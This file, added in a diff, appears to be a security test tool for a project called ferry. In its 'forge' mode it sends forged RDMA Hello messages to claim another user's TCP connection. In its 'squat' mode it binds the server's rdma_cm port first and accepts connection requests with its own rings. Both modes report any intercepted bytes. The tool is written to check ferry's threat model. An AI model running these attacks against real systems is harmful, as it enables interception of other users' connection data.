@@ -1,0 +1,231 @@
+// An unprivileged user's attempts to read or write another user's connection through
+// ferry's RDMA side (docs/design.md, "Threat model"). Runs without ferry, as any user:
+// rdma_cm's device is open to all.
+//
+//   rdma_intruder forge IP PORT CLIENT_PORT TCP_OFFSET SECONDS
+//     Asks the server at IP:PORT, with ferry's Hello, to carry the TCP connection from
+//     CLIENT_PORT (another process's: read from /proc/net/tcp), offering a ring of its
+//     own; once accepted, claims the client cut over at TCP_OFFSET (the bytes the client
+//     sent so far) and watches its ring for SECONDS.
+//   rdma_intruder squat IP PORT SECONDS
+//     Takes rdma_cm port PORT before a server does and answers every Hello with a
+//     Welcome and a ring of its own, then watches the rings for SECONDS.
+//
+// Prints what it saw: "accepted"/"refused", then "landed N bytes" and the printable
+// text of what landed (a ferry that binds its upgrades lets nothing land).
+#include "core/wire.h"
+
+#include <arpa/inet.h>
+#include <poll.h>
+#include <rdma/rdma_cma.h>
+#include <unistd.h>
+
+#include <chrono>
+#include <cstdio>
+#include <cstdlib>
+#include <cstring>
+#include <string>
+#include <vector>
+
+namespace {
+
+namespace wire = ferry::wire;
+
+constexpr size_t kRing = 1 << 16;
+
+rdma_event_channel* g_events;
+
+rdma_cm_event* next_event(int ms) {
+  pollfd p{g_events->fd, POLLIN, 0};
+  if (poll(&p, 1, ms) <= 0) return nullptr;
+  rdma_cm_event* ev = nullptr;
+  return rdma_get_cm_event(g_events, &ev) == 0 ? ev : nullptr;
+}
+
+// A queue pair and a ring anyone may write into, as ferry offers them.
+struct Side {
+  rdma_cm_id* id = nullptr;
+  ibv_pd* pd = nullptr;
+  ibv_cq* cq = nullptr;
+  std::vector<uint8_t> ring = std::vector<uint8_t>(kRing, 0);
+  uint8_t ctl[16 * 16] = {};
+  ibv_mr* ring_mr = nullptr;
+  ibv_mr* ctl_mr = nullptr;
+
+  bool build(rdma_cm_id* on) {
+    id = on;
+    pd = ibv_alloc_pd(id->verbs);
+    cq = pd ? ibv_create_cq(id->verbs, 64, nullptr, nullptr, 0) : nullptr;
+    if (!cq) return false;
+    ibv_qp_init_attr a{};
+    a.send_cq = a.recv_cq = cq;
+    a.qp_type = IBV_QPT_RC;
+    a.cap.max_send_wr = a.cap.max_recv_wr = 32;
+    a.cap.max_send_sge = a.cap.max_recv_sge = 1;
+    if (rdma_create_qp(id, pd, &a) != 0) return false;
+    ring_mr = ibv_reg_mr(pd, ring.data(), ring.size(), IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_WRITE);
+    ctl_mr = ibv_reg_mr(pd, ctl, sizeof ctl, IBV_ACCESS_LOCAL_WRITE);
+    if (!ring_mr || !ctl_mr) return false;
+    for (int i = 0; i < 15; ++i) {  // control messages (credits, the peer's cutover)
+      ibv_sge s{reinterpret_cast<uint64_t>(ctl + 16 * i), 16, ctl_mr->lkey};
+      ibv_recv_wr w{};
+      w.wr_id = static_cast<uint64_t>(i);
+      w.sg_list = &s;
+      w.num_sge = 1;
+      ibv_recv_wr* bad = nullptr;
+      if (ibv_post_recv(id->qp, &w, &bad) != 0) return false;
+    }
+    return true;
+  }
+  wire::RingRef ref() const { return {reinterpret_cast<uint64_t>(ring.data()), ring_mr->rkey, kRing}; }
+  // A ferry control message, as the peer's own would come.
+  bool control(wire::Op op, uint64_t value) {
+    uint8_t* m = ctl + 16 * 15;
+    wire::encode(wire::Control{op, value, 0}, m);
+    ibv_sge s{reinterpret_cast<uint64_t>(m), 16, ctl_mr->lkey};
+    ibv_send_wr w{};
+    w.opcode = IBV_WR_SEND;
+    w.send_flags = IBV_SEND_SIGNALED;
+    w.sg_list = &s;
+    w.num_sge = 1;
+    ibv_send_wr* bad = nullptr;
+    return ibv_post_send(id->qp, &w, &bad) == 0;
+  }
+};
+
+rdma_conn_param param(const void* data, uint8_t len) {
+  rdma_conn_param p{};
+  p.private_data = data;
+  p.private_data_len = len;
+  p.retry_count = 6;
+  p.rnr_retry_count = 6;
+  return p;
+}
+
+// Watches the rings for `seconds` and reports what landed.
+int report(const std::vector<Side*>& sides, int seconds) {
+  const auto until = std::chrono::steady_clock::now() + std::chrono::seconds(seconds);
+  while (std::chrono::steady_clock::now() < until) {
+    if (rdma_cm_event* ev = next_event(100)) rdma_ack_cm_event(ev);
+  }
+  size_t landed = 0;
+  std::string text;
+  for (const Side* s : sides) {
+    for (uint8_t b : s->ring) {
+      if (b == 0) continue;
+      ++landed;
+      if (b >= 0x20 && b < 0x7f && text.size() < 200) text += static_cast<char>(b);
+    }
+  }
+  printf("landed %zu bytes\n", landed);
+  if (!text.empty()) printf("text: %s\n", text.c_str());
+  return 0;
+}
+
+// One request: the answer event (null if none came in `seconds`).
+rdma_cm_event* ask(Side& side, const sockaddr_in& server, uint16_t client_port) {
+  rdma_cm_id* id = nullptr;
+  if (rdma_create_id(g_events, &id, nullptr, RDMA_PS_TCP) != 0) return nullptr;
+  rdma_cm_event* ev = nullptr;
+  if (rdma_resolve_addr(id, nullptr, (sockaddr*)&server, 2000) != 0 || !(ev = next_event(5000)) ||
+      ev->event != RDMA_CM_EVENT_ADDR_RESOLVED)
+    return nullptr;
+  rdma_ack_cm_event(ev);
+  if (rdma_resolve_route(id, 2000) != 0 || !(ev = next_event(5000)) || ev->event != RDMA_CM_EVENT_ROUTE_RESOLVED)
+    return nullptr;
+  rdma_ack_cm_event(ev);
+  if (!side.build(id)) {
+    perror("verbs");
+    return nullptr;
+  }
+  uint8_t hello[wire::kHelloSize];
+  wire::encode(wire::Hello{client_port, ntohs(server.sin_port), side.ref()}, hello);
+  rdma_conn_param p = param(hello, sizeof hello);
+  if (rdma_connect(id, &p) != 0) return nullptr;
+  // A ferry server holds a request until its program reads from the connection.
+  if ((ev = next_event(1000))) return ev;
+  printf("asked\n");
+  return next_event(40000);
+}
+
+int forge(const sockaddr_in& server, uint16_t client_port, uint64_t offset, int seconds) {
+  Side side;
+  rdma_cm_event* ev = ask(side, server, client_port);
+  if (!ev || ev->event != RDMA_CM_EVENT_ESTABLISHED) {
+    printf("refused (%s, status %d)\n", ev ? rdma_event_str(ev->event) : "no answer", ev ? ev->status : 0);
+    if (ev) rdma_ack_cm_event(ev);
+    return 0;
+  }
+  rdma_ack_cm_event(ev);
+  printf("accepted\n");
+  // "The client cut over here": from now on the server would read the ring and write
+  // the client's bytes into ours.
+  side.control(wire::Op::cutover, offset);
+  return report({&side}, seconds);
+}
+
+int squat(const sockaddr_in& at, int seconds) {
+  rdma_cm_id* listen = nullptr;
+  if (rdma_create_id(g_events, &listen, nullptr, RDMA_PS_TCP) != 0) return 1;
+  if (rdma_bind_addr(listen, (sockaddr*)&at) != 0 || rdma_listen(listen, 16) != 0) {
+    perror("rdma_bind_addr");
+    return 1;
+  }
+  printf("holding rdma_cm port %u\n", ntohs(at.sin_port));
+  fflush(stdout);
+  std::vector<Side*> sides;
+  const auto until = std::chrono::steady_clock::now() + std::chrono::seconds(seconds);
+  while (std::chrono::steady_clock::now() < until) {
+    rdma_cm_event* ev = next_event(100);
+    if (!ev) continue;
+    if (ev->event != RDMA_CM_EVENT_CONNECT_REQUEST) {
+      rdma_ack_cm_event(ev);
+      continue;
+    }
+    rdma_cm_id* id = ev->id;
+    wire::Hello h;
+    const bool ok = wire::decode(ev->param.conn.private_data, ev->param.conn.private_data_len, h) == wire::Error::ok;
+    rdma_ack_cm_event(ev);
+    auto* side = new Side;
+    if (!ok || !side->build(id)) {
+      rdma_reject(id, nullptr, 0);
+      continue;
+    }
+    // Any nonce: it has none of the server's to give.
+    uint8_t welcome[wire::kWelcomeSize];
+    wire::encode(wire::Welcome{side->ref(), {}}, welcome);
+    rdma_conn_param p = param(welcome, sizeof welcome);
+    if (rdma_accept(id, &p) != 0) continue;
+    printf("accepted a request for client port %u\n", h.client_port);
+    fflush(stdout);
+    sides.push_back(side);
+  }
+  return report(sides, 0);
+}
+
+}  // namespace
+
+int main(int argc, char** argv) {
+  const std::string usage =
+      "usage: rdma_intruder forge IP PORT CLIENT_PORT TCP_OFFSET SECONDS | squat IP PORT SECONDS\n";
+  if (argc < 5) {
+    fputs(usage.c_str(), stderr);
+    return 2;
+  }
+  sockaddr_in addr{};
+  addr.sin_family = AF_INET;
+  addr.sin_port = htons(static_cast<uint16_t>(atoi(argv[3])));
+  if (inet_pton(AF_INET, argv[2], &addr.sin_addr) != 1) return 2;
+  g_events = rdma_create_event_channel();
+  if (!g_events) {
+    perror("rdma_create_event_channel");
+    return 1;
+  }
+  const std::string mode = argv[1];
+  setvbuf(stdout, nullptr, _IOLBF, 0);
+  if (mode == "forge" && argc >= 7)
+    return forge(addr, static_cast<uint16_t>(atoi(argv[4])), strtoull(argv[5], nullptr, 10), atoi(argv[6]));
+  if (mode == "squat") return squat(addr, atoi(argv[4]));
+  fputs(usage.c_str(), stderr);
+  return 2;
+}
